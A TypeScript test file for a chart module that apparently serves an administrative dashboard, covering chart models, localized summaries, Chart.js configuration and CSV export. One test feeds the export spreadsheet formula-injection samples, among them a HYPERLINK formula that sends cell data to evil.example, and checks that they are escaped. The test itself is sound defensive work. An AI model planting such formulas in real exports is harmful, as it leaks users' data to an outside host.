import { expect } from '@open-wc/testing';
import type { ChartConfiguration } from 'chart.js';
import { buildChartConfig, targetLabel, withAlpha } from '../../src/charts/chart-config.js';
import { chartModel, chartTable, parseCsvNumber, summarize, toCsv, type ChartModel } from '../../src/charts/chart-model.js';
import { DEFAULT_CHART_TOKENS } from '../../src/charts/theme-tokens.js';
import type { KpiResult } from '../../src/core/kpi/engine.js';

/** A small result by month: on-time rates and counts for three months. */
const byMonth: KpiResult = {
  from: 0,
  to: 1,
  asOf: 1,
  groupBy: ['month'],
  groups: [
    { key: { month: '2026-01' }, values: { onTimeRate: 0.912, received: 1234, late: 12 } },
    { key: { month: '2026-02' }, values: { onTimeRate: 0.95, received: 980, late: 7 } },
    { key: { month: '2026-03' }, values: { received: 0 } },
  ],
  total: { key: {}, values: { onTimeRate: 0.93, received: 2214, direct: 1000, online: 1200, postal: 14 } },
  families: ['cases'],
  skipped: [],
};

const byUnitMonth: KpiResult = {
  ...byMonth,
  groupBy: ['unit', 'month'],
  groups: [
    { key: { unit: 'a', month: '2026-01' }, values: { received: 10 } },
    { key: { unit: 'a', month: '2026-02' }, values: { received: 12 } },
    { key: { unit: 'b', month: '2026-01' }, values: { received: 30 } },
    { key: { unit: 'b', month: '2026-02' }, values: {} },
  ],
};

const ticks = (cfg: ChartConfiguration, axis: 'x' | 'y') => {
  const scale = (cfg.options?.scales as Record<string, { ticks?: { callback?: (v: number) => string } }>)[axis];
  return (v: number) => scale?.ticks?.callback?.call(undefined as never, v) as string;
};

describe('chartModel()', () => {
  it('makes one category per group and one series per metric for one dimension', () => {
    const m = chartModel(byMonth, { metrics: ['received', 'late'], lang: 'vi' });
    expect(m.categories.map((c) => c.label)).to.deep.equal(['01/2026', '02/2026', '03/2026']);
    expect(m.series.map((s) => s.values)).to.deep.equal([[1234, 980, 0], [12, 7, null]]);
    expect(m.timeUnit).to.equal('month');
  });

  it('makes the metrics the categories of an ungrouped result (a doughnut of channels)', () => {
    const m = chartModel(byMonth.total ? { ...byMonth, groupBy: [], groups: [] } : byMonth, { metrics: ['direct', 'online', 'postal'], lang: 'en' });
    expect(m.categoryDim).to.equal('metric');
    expect(m.categories.map((c) => c.label)).to.deep.equal(['Dossiers submitted in person', 'Dossiers submitted online', 'Dossiers submitted by post']);
    expect(m.series[0]?.values).to.deep.equal([1000, 1200, 14]);
  });

  it('puts time on the categories and one series per unit, largest first, for two dimensions', () => {
    const m = chartModel(byUnitMonth, { metrics: ['received'], lang: 'vi', labelOf: (d, k) => (d === 'unit' ? `Đơn vị ${k.toUpperCase()}` : undefined) });
    expect(m.categoryDim).to.equal('month');
    expect(m.series.map((s) => s.label)).to.deep.equal(['Đơn vị B', 'Đơn vị A']);
    expect(m.series[0]?.values).to.deep.equal([30, null]);
  });

  it('drops metrics of another unit than the first (one axis per chart)', () => {
    const m = chartModel(byMonth, { metrics: ['onTimeRate', 'received'], lang: 'vi' });
    expect(m.series.map((s) => s.metric)).to.deep.equal(['onTimeRate']);
  });

  it('keeps at most maxSeries series and names the others', () => {
    const m = chartModel(byUnitMonth, { metrics: ['received'], lang: 'vi', maxSeries: 1 });
    expect(m.series).to.have.length(1);
    expect(m.omitted).to.deep.equal(['a']);
    expect(summarize(m, 'vi')).to.contain('Không vẽ 1 nhóm khác: a.');
  });
});

describe('summarize()', () => {
  it('describes a time series in one Vietnamese sentence with vi-VN numbers', () => {
    const m = chartModel(byMonth, { metrics: ['onTimeRate'], lang: 'vi' });
    expect(summarize(m, 'vi')).to.equal('Tỷ lệ trước hạn, đúng hạn tăng từ 91,2% lên 95,0% trong 3 tháng; thấp nhất 91,2% (01/2026), cao nhất 95,0% (02/2026); 1 kỳ không có dữ liệu.');
  });

  it('describes shares of a whole with their percentages in English', () => {
    const m = chartModel({ ...byMonth, groupBy: [], groups: [] }, { metrics: ['direct', 'online', 'postal'], lang: 'en' });
    expect(summarize(m, 'en')).to.equal('Dossiers submitted in person: 1,000 (45.2%); Dossiers submitted online: 1,200 (54.2%); Dossiers submitted by post: 14 (0.6%).');
  });
});

describe('chartTable() and toCsv()', () => {
  const model: ChartModel = chartModel(byMonth, { metrics: ['onTimeRate'], lang: 'vi' });

  it('formats the table in the language: 91,2% in Vietnamese, 91.2% in English', () => {
    expect(chartTable(model, 'vi').rows.map((r) => r.cells[0])).to.deep.equal(['91,2%', '95,0%', '–']);
    expect(chartTable(model, 'en').rows.map((r) => r.cells[0])).to.deep.equal(['91.2%', '95.0%', '–']);
  });

  it('writes Vietnamese CSV with a BOM, semicolons and decimal commas, percentages with two decimals', () => {
    const csv = toCsv(model, 'vi');
    expect(csv.startsWith('\ufeff')).to.equal(true);
    expect(csv.slice(1).split('\r\n')).to.deep.equal(['Tháng;Tỷ lệ trước hạn, đúng hạn (%)', '01/2026;91,2', '02/2026;95', '03/2026;', '']);
  });

  it('writes English CSV with commas, quoting fields that hold one', () => {
    const en = chartModel(byMonth, { metrics: ['onTimeRate'], lang: 'en' });
    const csv = toCsv(en, 'en', { bom: false });
    expect(csv.split('\r\n').slice(0, 3)).to.deep.equal(['Month,Early or on-time rate (%)', '01/2026,91.2', '02/2026,95']);
    const withComma = toCsv({ ...en, series: [{ ...en.series[0]!, label: 'Rate, overall' }] }, 'en', { bom: false });
    expect(withComma.split('\r\n')[0]).to.equal('Month,"Rate, overall (%)"');
    expect(parseCsvNumber('91,2', ',')).to.equal(91.2);
  });

  it('neutralises labels that a spreadsheet would run as a formula, as the server exports do', () => {
    const en = chartModel(byMonth, { metrics: ['onTimeRate'], lang: 'en' });
    const hostile = ['=HYPERLINK("https://evil.example/?d="&A1,"Bấm")', '+84-203-3825-123', '-1+1', '@SUM(A1:A9)', '\t=1+1', 'Phường Bãi Cháy'];
    const csv = toCsv({ ...en, categories: en.categories.map((c, i) => ({ ...c, label: hostile[i]! })) }, 'en', { bom: false });
    const firstCells = csv.split('\r\n').slice(1, 4).map((line) => line.slice(0, line.lastIndexOf(',')));
    expect(firstCells).to.deep.equal(['"\'=HYPERLINK(""https://evil.example/?d=""&A1,""Bấm"")"', "'+84-203-3825-123", "'-1+1"]);
    const vi = toCsv({ ...model, series: [{ ...model.series[0]!, label: '=1+1' }] }, 'vi', { bom: false });
    expect(vi.split('\r\n')[0]).to.equal("Tháng;'=1+1 (%)");
  });
});

describe('buildChartConfig()', () => {
  const model = chartModel(byMonth, { metrics: ['received', 'late'], lang: 'vi' });

  it('formats value ticks in vi-VN (1.234) and en (1,234), rates as percentages', () => {
    const vi = buildChartConfig(model, DEFAULT_CHART_TOKENS, { kind: 'bar', lang: 'vi', animate: false }) as ChartConfiguration;
    const en = buildChartConfig(model, DEFAULT_CHART_TOKENS, { kind: 'bar', lang: 'en', animate: false }) as ChartConfiguration;
    expect(ticks(vi, 'y')(1234)).to.equal('1.234');
    expect(ticks(en, 'y')(1234)).to.equal('1,234');
    const rate = buildChartConfig(chartModel(byMonth, { metrics: ['onTimeRate'], lang: 'vi' }), DEFAULT_CHART_TOKENS, { kind: 'line', lang: 'vi', animate: false }) as ChartConfiguration;
    expect(ticks(rate, 'y')(0.95)).to.equal('95%');
    expect(ticks(rate, 'y')(0.925)).to.equal('92,5%');
  });

  it('leaves sizing to the element and animates only when asked', () => {
    const still = buildChartConfig(model, DEFAULT_CHART_TOKENS, { kind: 'line', lang: 'vi', animate: false });
    const moving = buildChartConfig(model, DEFAULT_CHART_TOKENS, { kind: 'line', lang: 'vi', animate: true });
    expect(still.options?.responsive).to.equal(false);
    expect(still.options?.maintainAspectRatio).to.equal(false);
    expect(still.options?.animation).to.equal(false);
    expect(moving.options?.animation).to.not.equal(false);
  });

  it('stacks both axes of a stacked bar chart and turns a horizontal one', () => {
    const stacked = buildChartConfig(model, DEFAULT_CHART_TOKENS, { kind: 'stacked', lang: 'vi', animate: false }) as ChartConfiguration<'bar'>;
    expect((stacked.options?.scales?.['x'] as { stacked?: boolean }).stacked).to.equal(true);
    expect((stacked.options?.scales?.['y'] as { stacked?: boolean }).stacked).to.equal(true);
    const h = buildChartConfig(model, DEFAULT_CHART_TOKENS, { kind: 'hbar', lang: 'vi', animate: false }) as ChartConfiguration<'bar'>;
    expect(h.options?.indexAxis).to.equal('y');
  });

  it('gives lines distinct dashes and markers and bars the fills passed in', () => {
    const line = buildChartConfig(model, DEFAULT_CHART_TOKENS, { kind: 'line', lang: 'vi', animate: false }) as ChartConfiguration<'line'>;
    expect(line.data.datasets.map((d) => d.borderDash)).to.deep.equal([[], [10, 5]]);
    expect(line.data.datasets.map((d) => d.pointStyle)).to.deep.equal(['circle', 'rect']);
    const bar = buildChartConfig(model, DEFAULT_CHART_TOKENS, { kind: 'bar', lang: 'vi', animate: false, fills: ['#111111', '#222222'] }) as ChartConfiguration<'bar'>;
    expect(bar.data.datasets.map((d) => d.backgroundColor)).to.deep.equal(['#111111', '#222222']);
    expect(bar.data.datasets.map((d) => d.borderColor)).to.deep.equal([DEFAULT_CHART_TOKENS.series[0], DEFAULT_CHART_TOKENS.series[1]]);
  });

  it('draws a doughnut without axes, one fill per slice, no data as NaN (no slice)', () => {
    const m = chartModel({ ...byMonth, groupBy: [], groups: [], total: { key: {}, values: { direct: 5, online: 7 } } }, { metrics: ['direct', 'online', 'postal'], lang: 'vi' });
    const d = buildChartConfig(m, DEFAULT_CHART_TOKENS, { kind: 'doughnut', lang: 'vi', animate: false }) as ChartConfiguration<'doughnut'>;
    expect(d.options?.scales).to.equal(undefined);
    expect((d.data.datasets[0]?.backgroundColor as string[]).length).to.equal(3);
    expect(d.data.datasets[0]?.data.slice(0, 2)).to.deep.equal([5, 7]);
    expect(Number.isNaN(d.data.datasets[0]?.data[2])).to.equal(true);
  });

  it('passes the target to the target-line plugin with its label, never on a doughnut', () => {
    const m = chartModel(byMonth, { metrics: ['onTimeRate'], lang: 'vi' });
    const line = buildChartConfig(m, DEFAULT_CHART_TOKENS, { kind: 'line', lang: 'vi', animate: false, target: 0.95, targetLabel: targetLabel(0.95, 'ratio', 'vi') });
    expect(line.options?.plugins?.hccTarget).to.include({ value: 0.95, label: 'Mục tiêu: 95,0%' });
    const d = buildChartConfig(m, DEFAULT_CHART_TOKENS, { kind: 'doughnut', lang: 'vi', animate: false, target: 0.95 });
    expect(d.options?.plugins?.hccTarget).to.deep.equal({});
  });

  it('uses the tokens it is given for text, grid and the canvas background', () => {
    const tokens = { ...DEFAULT_CHART_TOKENS, text: '#ffffff', grid: '#808080', surface: '#000000', series: ['#ff0000', ...DEFAULT_CHART_TOKENS.series.slice(1)] };
    const c = buildChartConfig(model, tokens, { kind: 'line', lang: 'vi', animate: false }) as ChartConfiguration<'line'>;
    expect(c.options?.plugins?.hccBackground).to.deep.equal({ color: '#000000' });
    expect(c.data.datasets[0]?.borderColor).to.equal('#ff0000');
    expect((c.options?.scales?.['y'] as { ticks: { color: string } }).ticks.color).to.equal('#ffffff');
    expect(withAlpha('#808080', 0.5)).to.equal('rgba(128, 128, 128, 0.5)');
  });
});
